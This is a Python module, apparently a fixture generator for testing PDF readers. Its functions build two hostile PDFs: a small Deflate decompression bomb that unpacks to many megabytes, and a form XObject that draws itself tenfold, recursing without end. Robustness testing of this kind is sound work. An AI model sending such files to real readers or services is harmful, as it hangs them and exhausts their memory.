"""PDFs that do harm: small files that make a reader loop or unpack without end."""

import zlib
from collections.abc import Sequence

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources %s >>"


def unpacking_to(megabytes: int) -> bytes:
    """Return a PDF of some kilobytes whose page unpacks to *megabytes* of drawing that draws nothing."""
    return pdf(PAGE % b"<< >>", stream(b"/Filter /FlateDecode", _deflated(megabytes)))


def calling_itself() -> bytes:
    """Return a PDF whose form draws itself ten times over, and each of the ten does."""
    itself = b"<< /XObject << /F 5 0 R >> >>"
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources " + itself
    return pdf(PAGE % itself, stream(b"", b"/F Do\n"), stream(form, b"/F Do\n" * 10))


def pdf(page: bytes, *more: bytes) -> bytes:
    """Return a PDF with the one *page* as object 3, and *more* objects from 4 on."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    return _file((catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, *more))


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _deflated(megabytes: int) -> bytes:
    """Return blanks in Deflate. A full flush ends a block that knows nothing of those before, so it can be repeated."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = pack.compress(b" " * 1_000_000) + pack.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\x9c" + block * megabytes + pack.flush(zlib.Z_FINISH)


def _file(objects: Sequence[bytes]) -> bytes:
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    return out + head + table + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
